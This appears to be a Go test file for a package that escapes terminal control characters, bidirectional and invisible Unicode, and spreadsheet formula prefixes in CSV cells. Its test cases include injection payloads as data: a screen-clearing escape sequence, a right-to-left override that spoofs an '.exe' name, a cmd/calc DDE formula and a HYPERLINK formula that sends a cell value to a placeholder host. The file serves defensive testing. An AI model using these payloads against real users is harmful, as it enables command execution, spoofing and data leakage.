package printable

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestEscape(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"WS-0042.corp", "WS-0042.corp"},
		{"Ärger über Öl", "Ärger über Öl"},
		{`a\b`, `a\b`},
		{"\x1b]0;PWNED\x07\x1b[2J", `\x1b]0;PWNED\x07\x1b[2J`},
		{"row\nfake row", `row\x0afake row`},
		{"tab\there", `tab\x09here`},
		{"del\x7f", `del\x7f`},
		{"csi\u009b31m", `csi\u009b31m`},
		{"nel\u0085", `nel\u0085`},
		{"evil\u202etxt.exe", `evil\u202etxt.exe`},
		{"zero\u200bwidth\u200d\ufeff", `zero\u200bwidth\u200d\ufeff`},
		{"isolate\u2066x\u2069", `isolate\u2066x\u2069`},
		{"line\u2028sep", `line\u2028sep`},
		{"tag\U000e0041", `tag\U000e0041`},
		{"bad\xffutf8\xc3", `bad\xffutf8\xc3`},
		{"", ""},
	} {
		got := Escape(tc.in)
		if got != tc.want {
			t.Errorf("Escape(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if !Valid(got) {
			t.Errorf("Escape(%q) = %q is not printable", tc.in, got)
		}
		if Valid(tc.in) != (tc.in == tc.want) {
			t.Errorf("Valid(%q) = %v", tc.in, Valid(tc.in))
		}
	}
}

func TestReplace(t *testing.T) {
	if got := Replace("a\x1b[2Jb\u202ec\u009bd\xff", '?'); got != "a?[2Jb?c?d?" {
		t.Errorf("Replace = %q", got)
	}
}

func TestTruncate(t *testing.T) {
	for _, tc := range []struct {
		in   string
		max  int
		want string
	}{
		{"abc", 5, "abc"}, {"abcdef", 3, "abc"}, {"aé", 2, "a"}, {"é", 0, ""}, {"a\U000e0041", 4, "a"},
	} {
		if got := Truncate(tc.in, tc.max); got != tc.want {
			t.Errorf("Truncate(%q, %d) = %q, want %q", tc.in, tc.max, got, tc.want)
		}
	}
}

func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"WS-01", "WS-01"},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{`=HYPERLINK("http://x","y")`, `'=HYPERLINK("http://x","y")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", `'\x09=1`},
		{"\r=1", `'\x0d=1`},
		{"a=1", "a=1"},
		{"WS-02;@SUM(1+1)", `WS-02\x3b@SUM(1+1)`},
		{";=1", `\x3b=1`},
		{"", ""},
	} {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCSVList(t *testing.T) {
	for _, tc := range []struct {
		in   []string
		want string
	}{
		{nil, ""},
		{[]string{"WS-01", `=HYPERLINK("http://x/?"&A1)`, "WS-02;@SUM(1+1)"}, `WS-01;'=HYPERLINK("http://x/?"&A1);WS-02\x3b@SUM(1+1)`},
		{[]string{"-1", "+1"}, "'-1;'+1"},
	} {
		if got := CSVList(tc.in); got != tc.want {
			t.Errorf("CSVList(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// FuzzEscape checks that Escape's output is valid, printable UTF-8, that it
// is idempotent, that printable input passes unchanged, and that CSVCell
// never starts a formula.
func FuzzEscape(f *testing.F) {
	for _, s := range []string{"", "plain", "\x1b]0;x\x07", "\u202e", "\u009b", "\xff\xfe", "=1", "\t-", "\U000e0001"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		e := Escape(s)
		if !utf8.ValidString(e) || !Valid(e) {
			t.Fatalf("Escape(%q) = %q: not printable", s, e)
		}
		if Escape(e) != e {
			t.Fatalf("Escape not idempotent on %q", s)
		}
		if Valid(s) && e != s {
			t.Fatalf("printable %q changed to %q", s, e)
		}
		r := Replace(s, '?')
		if !Valid(r) || utf8.ValidString(s) && utf8.RuneCountInString(r) != utf8.RuneCountInString(s) {
			t.Fatalf("Replace(%q) = %q", s, r)
		}
		if tr := Truncate(e, 255); len(tr) > 255 || !utf8.ValidString(tr) || !Valid(tr) {
			t.Fatalf("Truncate(Escape(%q)) = %q", s, tr)
		}
		c := CSVCell(s)
		if c != "" && strings.IndexByte("=+-@\t\r", c[0]) >= 0 || strings.Contains(c, ";") {
			t.Fatalf("CSVCell(%q) = %q starts a formula or holds ';'", s, c)
		}
		for _, part := range strings.Split(CSVList([]string{s, s, "x"}), ";") {
			if part != "" && strings.IndexByte("=+-@\t\r", part[0]) >= 0 {
				t.Fatalf("CSVList of %q has a part %q that starts a formula", s, part)
			}
		}
		if !Valid(c) {
			t.Fatalf("CSVCell(%q) = %q not printable", s, c)
		}
	})
}

// TestIsEveryRune holds Is, with its ASCII shortcut, to the package's rule
// for every rune and a few values outside Unicode, and Valid to Is on each
// rune as a one-character string.
func TestIsEveryRune(t *testing.T) {
	rule := func(r rune) bool {
		return r >= 0x20 && r != 0x7f && (r < 0x80 || r > 0x9f) && r != '\u2028' && r != '\u2029' &&
			r != utf8.RuneError && r <= unicode.MaxRune && !unicode.Is(unicode.Cf, r) && !unicode.Is(unicode.Cs, r)
	}
	for r := rune(-1); r <= unicode.MaxRune+1; r++ {
		if got, want := Is(r), rule(r); got != want {
			t.Fatalf("Is(%U) = %v, want %v", r, got, want)
		}
		if r < 0 || r > unicode.MaxRune || unicode.Is(unicode.Cs, r) {
			continue // no UTF-8 encoding
		}
		if got, want := Valid(string(r)), rule(r); got != want {
			t.Fatalf("Valid(%q) = %v, want %v", string(r), got, want)
		}
	}
	for _, s := range []string{"DESKTOP-0123456.corp.example.com", "a\x7fb", "a\x1bb", "ok\xff", "é\u202e", ""} {
		want := true
		for _, r := range s { // a byte that is not UTF-8 comes as RuneError
			want = want && Is(r)
		}
		if got := Valid(s); got != want {
			t.Errorf("Valid(%q) = %v, want %v", s, got, want)
		}
	}
}
